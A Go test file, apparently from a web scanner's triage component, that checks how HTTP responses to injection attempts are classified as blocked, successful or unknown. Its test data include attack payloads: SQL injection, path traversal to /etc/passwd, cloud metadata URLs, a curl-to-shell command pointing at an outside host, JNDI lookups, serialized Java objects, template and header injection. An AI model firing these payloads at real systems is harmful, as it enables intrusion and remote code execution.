package triage

import (
	"strings"
	"testing"
)

// What firewalls, redirects, runtimes and interfaces say when they refuse, and what looks like it and says nothing.
func TestRefusal(t *testing.T) {
	const (
		json  = "application/json"
		xml   = "text/xml"
		union = "1' union select 1,2-- "
		file  = "../../etc/passwd"
		meta  = "http://169.254.169.254/latest/"
		oob   = ";curl 198.51.100.7/x|sh"
		jndi  = "${jndi:ldap://198.51.100.7/a}"
		java  = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="
	)
	page := func(text string) string { return "<!doctype html><html><body>" + text + "</body></html>" }
	for name, c := range map[string]struct {
		attempt
		want Outcome
	}{
		// Pages of firewalls, with 200.
		"Imperva":                       {attempt{kind: "sqli", payload: union, body: page(`<iframe src="/_Incapsula_Resource?xinfo=1">Request unsuccessful. Incapsula incident ID: 7-1</iframe>`)}, Failure},
		"Fortinet":                      {attempt{kind: "sqli", payload: union, body: page("<h2>Web Page Blocked!</h2><p>Attack ID: 2</p>")}, Failure},
		"Radware":                       {attempt{kind: "sqli", payload: union, body: page("<p>because we have detected unauthorized activity. Case 7</p>")}, Failure},
		"in Chinese":                    {attempt{kind: "sqli", payload: union, body: page("<h1>很抱歉，您的访问请求疑似攻击行为</h1>")}, Failure},
		"in German":                     {attempt{kind: "sqli", payload: union, body: page("<p>Ihre Anfrage wurde aus Sicherheitsgründen blockiert.</p>")}, Failure},
		"in JSON":                       {attempt{kind: "sqli", payload: union, mime: json, body: `{"code":7,"message":"Request blocked by security policy"}`}, Failure},
		"whether it is a human":         {attempt{kind: "sqli", payload: union, body: page("<h1>Please verify you are a human</h1>")}, Failure},
		"challenge by a header":         {attempt{kind: "sqli", payload: union, headers: "Cf-Mitigated: challenge\r\n", body: page("Just a moment...")}, Failure},
		"words that were sent":          {attempt{kind: "sqli", payload: union + "request blocked", body: page("no " + union + "request blocked")}, Unknown},
		"long article about a firewall": {attempt{kind: "sqli", payload: union, body: page("web page blocked" + strings.Repeat(" text", 3000))}, Unknown},
		"words in a document of JSON":   {attempt{kind: "sqli", payload: union, mime: json, body: `{"text":"access denied` + strings.Repeat(" text", 300) + `"}`}, Unknown},

		// Classes that deserializers refuse.
		"fastjson":             {attempt{kind: "rce", payload: "com.sun.rowset.JdbcRowSetImpl", status: "500", body: "JSONException: autoType is not support. com.sun.rowset.JdbcRowSetImpl"}, Failure},
		"fastjson, in JSON":    {attempt{kind: "rce", payload: "com.sun.rowset.JdbcRowSetImpl", mime: json, body: `{"code":400,"msg":"autoType is not support. com.sun.rowset.JdbcRowSetImpl"}`}, Failure},
		"filter of Java":       {attempt{kind: "rce", payload: java, status: "500", body: "java.io.InvalidClassException: filter status: REJECTED"}, Failure},
		"refusal that is sent": {attempt{kind: "rce", payload: java + " filter status: REJECTED", status: "500", body: java + " filter status: REJECTED"}, Unknown},
		"picture that runs":    {attempt{kind: "rce", payload: "a", method: "POST", request: "AT&TFORM (metadata\n (Copyright \"x\"))", status: "422"}, Unknown},

		// Redirects.
		"to a page that blocks":  {attempt{kind: "sqli", payload: union, status: "302", headers: "Location: /blocked.html?ref=7\r\n"}, Failure},
		"to a page of an error":  {attempt{kind: "sqli", payload: union, status: "302", headers: "Location: https://shop.example.com/errors/404\r\n"}, Failure},
		"to an error's overview": {attempt{kind: "sqli", payload: union, status: "302", headers: "Location: /errors/404/report\r\n"}, Unknown},
		"to a page about blocks": {attempt{kind: "sqli", payload: union, status: "302", headers: "Location: /building-blocks\r\n"}, Unknown},

		"elsewhere than it was told":     {attempt{kind: "generic", payload: "//other.example/", status: "302", headers: "Location: /home\r\n"}, Failure},
		"elsewhere, with what was told":  {attempt{kind: "generic", payload: "//other.example/", status: "302", headers: "Location: /home?next=//other.example/\r\n"}, Unknown},
		"where it was told":              {attempt{kind: "generic", payload: "//other.example/", status: "302", headers: "Location: //other.example/\r\n"}, Success},
		"elsewhere, and asked it before": {attempt{kind: "ssrf", payload: "http://other.example/", status: "302", headers: "Location: /done\r\n"}, Unknown},
		"elsewhere, no address":          {attempt{kind: "generic", payload: "x", status: "302", headers: "Location: /home\r\n"}, Unknown},

		"to a host that is called login":      {attempt{kind: "generic", payload: "//evil-login.example/", status: "302", headers: "Location: //evil-login.example/\r\n"}, Success},
		"to such a host, by a path":           {attempt{kind: "lfi", payload: "//evil-login.example/%2f..", status: "302", headers: "Location: //evil-login.example/%2f..\r\n"}, Unknown},
		"to the login elsewhere":              {attempt{kind: "generic", payload: "//other.example/", status: "302", headers: "Location: https://login.example.com/authorize\r\n"}, Failure},
		"to the login":                        {attempt{kind: "sqli", payload: union, request: "a=b", status: "302", headers: "Location: /login\r\n"}, Failure},
		"to the login, by the login":          {attempt{kind: "sqli", method: "POST", uri: "/login", payload: union, status: "302", headers: "Location: /login\r\n"}, Failure},
		"to the login, when registered":       {attempt{kind: "sqli", method: "POST", uri: "/account/register", payload: union, status: "302", headers: "Location: /login\r\n"}, Unknown},
		"to the login, with another password": {attempt{kind: "sqli", method: "POST", uri: "/users/password", payload: union, status: "302", headers: "Location: /users/sign_in\r\n"}, Unknown},
		"to the login, with a complaint":      {attempt{kind: "sqli", method: "POST", uri: "/users/password", payload: union, status: "302", headers: "Location: /login?error=1\r\n"}, Failure},
		"to the login, from a set-up page":    {attempt{kind: "lfi", uri: "/setup", payload: file, status: "302", headers: "Location: /login\r\n"}, Failure},

		// Lines of a head.
		"lines escaped":              {attempt{kind: "protocol", payload: "/home\r\nX-Injected: yes", status: "302", headers: "Location: /home%0D%0AX-Injected:%20yes\r\n"}, Failure},
		"lines whose ends are gone":  {attempt{kind: "protocol", payload: "/home\r\nX-Injected: yes", status: "302", headers: "Location: /homeX-Injected: yes\r\n"}, Failure},
		"lines that were added":      {attempt{kind: "protocol", payload: "/home\r\nX-Injected: yes", status: "302", headers: "Location: /home\r\nX-Injected: yes\r\n"}, Success},
		"lines that are not there":   {attempt{kind: "protocol", payload: "/home\r\nX-Injected: yes", status: "302", headers: "Location: /home\r\n"}, Unknown},
		"another header of the name": {attempt{kind: "protocol", payload: "/home\r\nX-Injected: yes", status: "302", headers: "Location: /home%0D%0AX-Injected:%20yes\r\nX-Injected: no\r\n"}, Unknown},

		// Pages of errors with 200.
		"page not found":             {attempt{kind: "lfi", payload: file, body: "<html><head><title>Page not found - Shop</title></head><body>Sorry</body></html>"}, Failure},
		"page of a number":           {attempt{kind: "sqli", payload: union, body: "<title>Error 404</title>"}, Failure},
		"page of a framework":        {attempt{kind: "injection-php", payload: "phpinfo", body: "<title>System Error</title><h1>module not exists:Index</h1>"}, Failure},
		"page of a framework, China": {attempt{kind: "injection-php", payload: "phpinfo", body: "<title>系统发生错误</title>"}, Failure},
		"page of errors, cut":        {attempt{kind: "lfi", payload: file, body: "<title>Not found</title>" + strings.Repeat("a", 1000)}, Unknown},
		"page of errors, a script":   {attempt{kind: "xss", method: "POST", payload: "<b onclick=a()>", body: "<title>Not found</title>"}, Unknown},
		"page about errors":          {attempt{kind: "sqli", payload: union, body: "<title>Error handling in Go</title>"}, Unknown},
		"condition that is false":    {attempt{kind: "sqli", payload: "1' and 1=2-- ", body: "<title>Not found</title>"}, Unknown},
		"page of errors elsewhere":   {attempt{kind: "ssrf", payload: "http://10.0.0.9/", body: "<title>404 Not Found</title>"}, Unknown},
		"command without output":     {attempt{kind: "rce", payload: ";touch /tmp/a", body: "<title>Error</title>"}, Unknown},

		// Logins that are asked for again.
		"login again":               {attempt{kind: "sqli", method: "POST", payload: "' or 1=1-- ", request: "user=a&password=x", body: page(`<p>Invalid user or password.</p><input type="password" name="password">`)}, Failure},
		"login again, of a filter":  {attempt{kind: "ldap", method: "POST", payload: "*)(uid=*", request: "uid=*)(uid=*&password=x", body: page(`<b>Falsches Passwort</b><input name=p type=password>`)}, Failure},
		"login again, no complaint": {attempt{kind: "sqli", method: "POST", payload: "' or 1=1-- ", request: "user=a&password=x", body: page(`<p>Change it:</p><input type="password" name="password">`)}, Unknown},
		"login again, a condition":  {attempt{kind: "sqli", method: "POST", payload: "a' and substring(version(),1,1)='8", request: "user=a&password=x", body: page(`<p>Invalid password.</p><input type="password">`)}, Unknown},
		"login again, a command":    {attempt{kind: "rce", method: "POST", payload: ";id", request: "user=a&password=x", body: page(`<p>Invalid password.</p><input type="password">`)}, Unknown},
		"profile with a password":   {attempt{kind: "sqli", method: "POST", payload: "' or 1=1-- ", request: "name=a", body: page(`<p>Invalid name.</p><input type="password">`)}, Unknown},

		// Expressions that stay what they are.
		"expression":                       {attempt{kind: "injection-generic", payload: "{{1337*7}}${1337*7}<%=1337*7%>", body: "<p>Hello, {{1337*7}}${1337*7}&lt;%=1337*7%&gt;</p>"}, Failure},
		"expression, one computed":         {attempt{kind: "injection-generic", payload: "{{1337*7}}${1337*7}", body: "<p>Hello, {{1337*7}}9359</p>"}, Success},
		"expression, of a browser":         {attempt{kind: "injection-generic", payload: "{{1337*7}}", body: "<html ng-app><p>Hello, {{1337*7}}</p>"}, Unknown},
		"expression, stored":               {attempt{kind: "injection-generic", method: "POST", payload: "{{1337*7}}", body: "<p>Hello, {{1337*7}}</p>"}, Unknown},
		"expression, its result by chance": {attempt{kind: "injection-generic", payload: "{{7*7}}", body: "<p>Hello, {{7*7}}</p><i>1490</i>"}, Unknown},
		"expression of a shell":            {attempt{kind: "rce", payload: ";echo $((1337*7))", body: "<p>no ;echo $((1337*7))</p>"}, Unknown},

		// Files and entities that were not opened.
		"PHP 8":                    {attempt{kind: "lfi", payload: file, body: "Warning: include(/etc/passwd): Failed to open stream: Permission denied in /srv/a.php"}, Failure},
		"PHP, no other hosts":      {attempt{kind: "rfi", payload: "http://198.51.100.7/c.txt?", body: "Warning: include(): http:// wrapper is disabled in the server configuration by allow_url_include=0"}, Failure},
		"PHP, its folders":         {attempt{kind: "lfi", payload: file, body: "Warning: include(): open_basedir restriction in effect. File(/etc/passwd)"}, Failure},
		"Xerces":                   {attempt{kind: "xxe", payload: `<!ENTITY x SYSTEM "file:///etc/passwd">`, mime: xml, body: "<e>DOCTYPE is disallowed when the feature is set to true.</e>"}, Failure},
		".NET's parser":            {attempt{kind: "xxe", payload: `<!ENTITY x SYSTEM "file:///etc/passwd">`, mime: json, body: `{"e":"For security reasons DTD is prohibited in this XML document."}`}, Failure},
		"about PHP's settings":     {attempt{kind: "sqli", payload: union, body: page("open_basedir restriction in effect")}, Unknown},
		"entities, another attack": {attempt{kind: "sqli", payload: union, body: page("DTD is prohibited")}, Unknown},

		// Interfaces that answer with 2xx.
		"login, no":                     {attempt{kind: "sqli", payload: "' or 1=1-- ", mime: json, body: `{"code":40101,"success":false,"message":"Invalid credentials","data":null}`}, Failure},
		"token, no":                     {attempt{kind: "generic", payload: "x", mime: json, body: `{"code":401,"message":"token signature invalid"}`}, Failure},
		"file, no":                      {attempt{kind: "lfi", uri: "/.git/config", payload: "/.git/config", mime: json, body: `{"error":"Not Found","statusCode":404}`}, Failure},
		"upload, no":                    {attempt{kind: "injection-php", payload: "a.php", mime: json, request: "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\nx\r\n--b--", body: `{"success":false,"message":"File type not allowed"}`}, Failure},
		"scheme, no":                    {attempt{kind: "ssrf", payload: "file:///etc/passwd", mime: json, body: `{"error":"Unsupported protocol file:"}`}, Failure},
		"GraphQL, no":                   {attempt{kind: "sqli", payload: "x' or 1=1-- ", mime: json, body: `{"errors":[{"message":"name is too long"}],"data":null}`}, Failure},
		"text of no type":               {attempt{kind: "sqli", payload: "x' or 1=1-- ", mime: "text/plain", body: `{"status":"error","message":"no such item"}`}, Failure},
		"error of a database, inside":   {attempt{kind: "sqli", payload: union, mime: json, body: `{"code":500,"msg":"You have an error in your SQL syntax","data":null}`}, Unknown},
		"asked, and not answered":       {attempt{kind: "ssrf", payload: meta, mime: json, body: `{"error":"connect ECONNREFUSED 169.254.169.254:80"}`}, Unknown},
		"asked, and refused there":      {attempt{kind: "rfi", payload: meta, mime: json, body: `{"error":"remote server returned 401 - Unauthorized"}`}, Unknown},
		"asked, and of no use":          {attempt{kind: "ssrf", payload: meta, mime: json, body: `{"error":"Invalid image"}`}, Unknown},
		"statement of its own":          {attempt{kind: "sqli", payload: "1'; drop table lamps--", mime: json, body: `{"success":false}`}, Unknown},
		"command that was run":          {attempt{kind: "rce", payload: ";idd", mime: json, body: `{"error":"sh: 1: idd: not found"}`}, Unknown},
		"command out of sight":          {attempt{kind: "rce", payload: oob, mime: json, body: `{"success":false,"message":"no such host name"}`}, Unknown},
		"condition that may not hold":   {attempt{kind: "sqli", payload: "1 and substr(pw,1,1)='a'", mime: json, body: `{"success":false}`}, Unknown},
		"waiting":                       {attempt{kind: "sqli", payload: "1 and sleep(5)", mime: json, body: `{"success":false}`}, Unknown},
		"error beside a result":         {attempt{kind: "sqli", payload: union, mime: json, body: `{"errors":["one row is gone"],"data":[{"id":1}]}`}, Unknown},
		"no error":                      {attempt{kind: "sqli", payload: union, mime: json, body: `{"error":null,"success":true}`}, Unknown},
		"an item with a number":         {attempt{kind: "sqli", payload: union, mime: json, body: `{"code":40123,"name":"lamp"}`}, Unknown},
		"an item that knows its errors": {attempt{kind: "sqli", payload: union, mime: json, body: `{"id":1,"a":1,"b":1,"c":1,"d":1,"e":1,"f":1,"g":1,"error":"low"}`}, Unknown},
		"an error in a text":            {attempt{kind: "sqli", payload: union, mime: json, body: `{"name":"success: false"}`}, Unknown},

		// Attacks that have run, or not, before a status is known.
		"lookup, 404":                {attempt{kind: "rce", payload: jndi, status: "404"}, Unknown},
		"lookup, login":              {attempt{kind: "rce", payload: "${${lower:j}ndi:ldap://198.51.100.7/a}", status: "401"}, Unknown},
		"lookup, a firewall":         {attempt{kind: "rce", payload: jndi, status: "403"}, Failure},
		"lookup, a page that blocks": {attempt{kind: "rce", payload: jndi, status: "404", body: page("request blocked")}, Failure},
		"lookup, a gateway":          {attempt{kind: "rce", payload: jndi, status: "502"}, Failure},
		"object":                     {attempt{kind: "rce", payload: java, status: "500"}, Unknown},
		"object, bytes":              {attempt{kind: "injection-java", payload: "\xac\xed\x00\x05sr\x00\x11java.util.HashSet", status: "500", body: "java.lang.ClassCastException"}, Unknown},
		"object that nobody read":    {attempt{kind: "rce", payload: java, status: "404"}, Failure},
		"function in a variable":     {attempt{kind: "rce", payload: "() { :; }; /bin/date", status: "500"}, Unknown},
		"command, a failure":         {attempt{kind: "injection-java", payload: `T(java.lang.Runtime).getRuntime().exec("touch /tmp/x")`, status: "500"}, Unknown},
		"command that would show":    {attempt{kind: "rce", payload: ";id", status: "500"}, Failure},
		"query, a failure":           {attempt{kind: "sqli", payload: union, status: "500"}, Failure},
	} {
		t.Run(name, func(t *testing.T) {
			tx, v := c.exchange(t)
			got, evidence := OutcomeOf(tx, v)
			if got != c.want || len(evidence) == 0 {
				t.Errorf("%s, want %s: %q", got, c.want, evidence)
			}
		})
	}
}
